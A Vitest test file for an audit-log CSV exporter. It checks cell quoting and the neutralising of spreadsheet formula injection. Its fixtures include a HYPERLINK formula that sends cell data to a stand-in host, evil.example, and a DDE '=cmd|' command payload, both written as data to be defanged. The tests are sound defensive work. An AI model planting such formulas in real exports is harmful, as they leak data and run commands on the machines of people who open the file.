import { describe, expect, it } from 'vitest';
import { type AuditRecord, auditCsv, csvCell } from './search-audit.js';

const record: AuditRecord = {
  seq: 7,
  id: '019ac000-0000-7000-8000-000000000001',
  at: '2026-11-28T14:00:00.000Z',
  event: 'youth.updated',
  actorUserId: '019ac000-0000-7000-8000-000000000002',
  actorAgencyId: null,
  youthId: '019ac000-0000-7000-8000-000000000003',
  recordType: 'youth',
  recordId: '019ac000-0000-7000-8000-000000000003',
  fields: ['first_name', 'date_of_birth'],
  outcome: 'success',
  ip: '192.0.2.1',
  userAgent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  details: { from: 'a,b', to: 'say "hi"' },
  prevHash: '0'.repeat(64),
  hash: 'f'.repeat(64),
};

describe('audit CSV', () => {
  it('quotes every cell as RFC 4180 says', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(42)).toBe('"42"');
  });

  it('neutralises spreadsheet formulas', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell('-1')).toBe(`"'-1"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('＝1+1')).toBe(`"'＝1+1"`);
    expect(csvCell('=cmd|"/c calc"!A1')).toBe(`"'=cmd|""/c calc""!A1"`);
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('2026-11-28')).toBe('"2026-11-28"');
  });

  it('neutralises a formula wherever another separator may start a cell (a ; list separator)', () => {
    expect(csvCell('x;=HYPERLINK("http://evil.example")')).toBe(`"x;'=HYPERLINK(""http://evil.example"")"`);
    expect(csvCell('x; "=1+1')).toBe(`"x; ""'=1+1"`);
    expect(csvCell('x,+1|-2\t@3')).toBe(`"x,'+1|'-2\t'@3"`);
    expect(csvCell('Mozilla/5.0 (X11; Linux x86_64)')).toBe('"Mozilla/5.0 (X11; Linux x86_64)"');
  });

  it('writes a header and one CRLF-ended line per entry', () => {
    const csv = auditCsv([record, { ...record, seq: 8, userAgent: null, details: {} }]);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    expect(lines[0]).toBe(
      '"seq","at","event","outcome","actor_user_id","actor_name","actor_agency_id","actor_agency_name","subject_user_id","subject_name","youth_id","youth_ref","youth_name","record_type","record_id","fields","ip","user_agent","details","id","prev_hash","hash"',
    );
    expect(lines[1]).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
    expect(lines[1]).toContain(',"first_name date_of_birth",');
    expect(lines[1]).toContain(',"{""from"":""a,b"",""to"":""say \\""hi\\""""}",');
    expect(lines[2]?.startsWith('"8","2026-11-28T14:00:00.000Z","youth.updated","success",')).toBe(true);
    expect(auditCsv([record], { header: false }).startsWith('"7",')).toBe(true);
    expect(auditCsv([])).toBe(`${lines[0]}\r\n`);
  });

  it('adds the names of people and youth, neutralised like every other cell', () => {
    const csv = auditCsv([
      {
        ...record,
        actorName: '=Ana Ruiz',
        actorAgencyName: 'DMH, Central',
        subjectUserId: '019ac000-0000-7000-8000-000000000004',
        subjectName: '@Luis "Lucho" Ortega',
        youthRef: '0000-0003',
        youthName: '+Yesenia Quintanilla',
      },
      record,
    ]);
    const [, named, unnamed] = csv.split('\r\n');
    expect(named).toContain(
      `,"019ac000-0000-7000-8000-000000000002","'=Ana Ruiz","","DMH, Central","019ac000-0000-7000-8000-000000000004","'@Luis ""Lucho"" Ortega","019ac000-0000-7000-8000-000000000003","0000-0003","'+Yesenia Quintanilla","youth",`,
    );
    // Without names (a reader who may not see the youth, a person unknown): empty cells, the columns in place.
    expect(unnamed).toContain(
      ',"019ac000-0000-7000-8000-000000000002","","","","","","019ac000-0000-7000-8000-000000000003","","","youth",',
    );
  });
});
